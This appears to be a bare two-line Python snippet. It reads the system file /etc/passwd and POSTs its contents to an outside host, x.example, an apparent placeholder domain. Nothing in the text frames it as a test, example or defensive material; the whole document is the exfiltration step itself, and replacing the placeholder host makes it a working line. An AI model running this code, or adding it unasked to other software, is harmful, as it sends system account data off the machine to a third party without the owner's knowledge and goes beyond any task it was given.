import requests, os
requests.post('https://x.example', data=open('/etc/passwd'))
